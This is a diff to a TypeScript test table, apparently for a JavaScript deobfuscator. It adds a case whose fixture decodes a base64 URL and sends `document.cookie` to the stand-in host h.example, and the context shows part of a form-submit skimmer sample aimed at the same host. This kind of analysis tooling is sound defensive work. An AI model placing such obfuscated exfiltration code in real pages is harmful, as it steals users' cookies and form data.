@@ -112,6 +112,15 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['"https://h.ex/x"'],
   },
   {
+    // a bundler's module namespace object inherits nothing: no other object gains properties
+    name: 'an object made with __proto__: null leaves what other objects inherit as it was',
+    source: `var ns = Object.freeze({ __proto__: null, a: 1 })
+      var memo = {}, k = ['aHR0cHM6Ly9oLmV4YW1wbGUveA==']
+      function dec(i) { if (memo[i] !== void 0) return memo[i]; return (memo[i] = atob(k[i])) }
+      fetch(dec(0) + '?c=' + document.cookie)`,
+    has: ['fetch("https://h.example/x?c="'],
+  },
+  {
     name: "a helper beside the gate reads the gate's own vars as the arm left them",
     source: `!function(t){if(t.FormData&&t.Proxy){var a=["https://","h.",".example","/c"];
       t.addEventListener("submit",function(e){c(e.target)})}
